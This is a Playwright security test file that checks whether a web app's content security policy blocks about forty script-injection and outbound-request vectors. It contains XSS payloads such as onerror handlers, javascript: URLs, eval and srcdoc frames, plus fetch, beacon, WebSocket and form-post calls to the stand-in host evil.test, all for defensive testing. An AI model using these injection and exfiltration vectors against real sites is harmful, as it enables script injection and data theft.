/** What a page of the desk cannot be made to do, whatever gets into it: forty ways to run or fetch something foreign (SEC-03). */
import { expect } from '@playwright/test';
import { test } from '../fixtures/desk.ts';

const PWN = 'globalThis.pwned = true';
const FOREIGN = 'https://evil.test';

/** Each runs in the page as the most careless code could: with a cast where the types of the DOM would warn. */
const VECTORS: Readonly<Record<string, string>> = {
  'an inline script': `const s = document.createElement('script'); s.textContent = '${PWN}'; document.body.append(s)`,
  'a script from elsewhere': `const s = document.createElement('script'); s.src = '${FOREIGN}/x.js'; document.body.append(s)`,
  'a script in a data: address': `const s = document.createElement('script'); s.src = 'data:text/javascript,${PWN}'; document.body.append(s)`,
  'a script in a blob': `const s = document.createElement('script'); s.src = URL.createObjectURL(new Blob(['${PWN}'])); document.body.append(s)`,
  'a module script': `const s = document.createElement('script'); s.type = 'module'; s.textContent = '${PWN}'; document.body.append(s)`,
  'an import of a data: address': `await import('data:text/javascript,${PWN}')`,
  'an import from elsewhere': `await import('${FOREIGN}/x.js')`,
  eval: `(0, eval)('${PWN}')`,
  'the Function constructor': `new Function('${PWN}')()`,
  'a timer with text': `setTimeout('${PWN}', 0)`,
  'an interval with text': `setInterval('${PWN}', 1)`,
  innerHTML: `document.body.innerHTML = '<img src=x onerror="${PWN}">'`,
  outerHTML: `document.body.firstElementChild.outerHTML = '<img src=x onerror="${PWN}">'`,
  insertAdjacentHTML: `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="${PWN}">')`,
  'document.write': `document.write('<script>${PWN}</' + 'script>')`,
  'a contextual fragment': `document.body.append(document.createRange().createContextualFragment('<img src=x onerror="${PWN}">'))`,
  'a parsed document': `document.body.append(new DOMParser().parseFromString('<img src=x onerror="${PWN}">', 'text/html').body.firstChild)`,
  setHTMLUnsafe: `document.body.setHTMLUnsafe('<img src=x onerror="${PWN}">')`,
  'an onclick attribute': `document.body.setAttribute('onclick', '${PWN}'); document.body.click()`,
  'an SVG onload': `const s = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); s.setAttribute('onload', '${PWN}'); document.body.append(s)`,
  'a javascript: link': `const a = document.createElement('a'); a.href = 'javascript:${PWN}'; document.body.append(a); a.click()`,
  'a javascript: address': `location.href = 'javascript:${PWN}'`,
  'a frame with srcdoc': `const f = document.createElement('iframe'); f.srcdoc = '<script>parent.pwned = true</' + 'script>'; document.body.append(f)`,
  'a frame with a javascript: address': `const f = document.createElement('iframe'); f.src = 'javascript:parent.pwned = true'; document.body.append(f)`,
  'a frame from elsewhere': `const f = document.createElement('iframe'); f.src = '${FOREIGN}/'; document.body.append(f)`,
  'an object': `const o = document.createElement('object'); o.data = '${FOREIGN}/x.swf'; document.body.append(o)`,
  'an embed': `const e = document.createElement('embed'); e.src = '${FOREIGN}/x.swf'; document.body.append(e)`,
  'a worker in a blob': `new Worker(URL.createObjectURL(new Blob(['fetch("${FOREIGN}/")'])))`,
  'a worker in a data: address': `new Worker('data:text/javascript,fetch("${FOREIGN}/")')`,
  'a service worker': `await navigator.serviceWorker.register('data:text/javascript,1')`,
  'a worklet': `await new AudioContext().audioWorklet.addModule('data:text/javascript,1')`,
  'a style sheet from elsewhere': `const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = '${FOREIGN}/x.css'; document.head.append(l)`,
  'a style element': `const s = document.createElement('style'); s.textContent = 'body { background: url(${FOREIGN}/x.png) }'; document.head.append(s)`,
  'a base address': `const b = document.createElement('base'); b.href = '${FOREIGN}/'; document.head.append(b); if (document.baseURI.startsWith('${FOREIGN}')) ${PWN}`,
  'an image from elsewhere': `new Image().src = '${FOREIGN}/x.png'`,
  'a font from elsewhere': `await new FontFace('x', 'url(${FOREIGN}/x.woff2)').load()`,
  'a prefetch': `const l = document.createElement('link'); l.rel = 'prefetch'; l.href = '${FOREIGN}/x'; document.head.append(l)`,
  fetch: `await fetch('${FOREIGN}/', { method: 'POST', body: 'x', mode: 'no-cors' })`,
  XMLHttpRequest: `const x = new XMLHttpRequest(); x.open('POST', '${FOREIGN}/'); x.send('x')`,
  'a beacon': `navigator.sendBeacon('${FOREIGN}/', 'x')`,
  'an event source': `new EventSource('${FOREIGN}/')`,
  'a socket': `new WebSocket('wss://evil.test/')`,
  'a form': `const f = document.createElement('form'); f.action = '${FOREIGN}/'; f.method = 'post'; document.body.append(f); f.submit()`,
};

/**
 * Runs the code in a task of the page's own: what Playwright evaluates directly is above the policy of the page, what a timer calls is
 * not.
 */
function runInPage(code: string): Promise<unknown> {
  const AsyncFunction = (async () => {}).constructor as new (body: string) => () => Promise<unknown>;
  const run = new AsyncFunction(code);
  return new Promise((done) => setTimeout(() => run().then(done, done), 0));
}

// Complaints are what this test is for: each vector that is stopped says so in the console.
test.use({ allowedComplaints: /./ });

test('none of the ways runs a script or reaches another host', async ({ desk }) => {
  const { page } = desk;
  let foreign = 0;
  await page.context().route(/evil\.test/, async (route) => {
    foreign += 1;
    await route.fulfill({ body: '', headers: { 'access-control-allow-origin': '*' } });
  });
  const through: string[] = [];
  for (const [name, code] of Object.entries(VECTORS)) {
    const before = foreign;
    await page.evaluate(runInPage, `document.body.dataset.tried = '${name}'; ${code}`);
    expect(await page.evaluate(() => document.body.dataset['tried'])).toBe(name);
    await page.waitForTimeout(40);
    const ran = await page.evaluate(() => 'pwned' in globalThis).catch(() => true);
    if (ran || foreign > before) through.push(name);
    if (ran) await page.reload();
  }
  expect(through).toEqual([]);
  expect(Object.keys(VECTORS).length).toBeGreaterThanOrEqual(40);
});

test('the check would notice a page without a policy (twin)', async ({ browser }) => {
  const context = await browser.newContext();
  const page = await context.newPage();
  let foreign = 0;
  await context.route(/evil\.test/, async (route) => {
    foreign += 1;
    await route.fulfill({ body: '' });
  });
  await context.route('https://open.test/', (route) =>
    route.fulfill({ body: '<!doctype html><body><p>x', contentType: 'text/html' }),
  );
  await page.goto('https://open.test/');
  await page.evaluate(runInPage, VECTORS['innerHTML'] ?? '');
  await page.evaluate(runInPage, VECTORS['an image from elsewhere'] ?? '');
  await expect.poll(() => page.evaluate(() => 'pwned' in globalThis)).toBe(true);
  await expect.poll(() => foreign).toBe(1);
  await context.close();
});
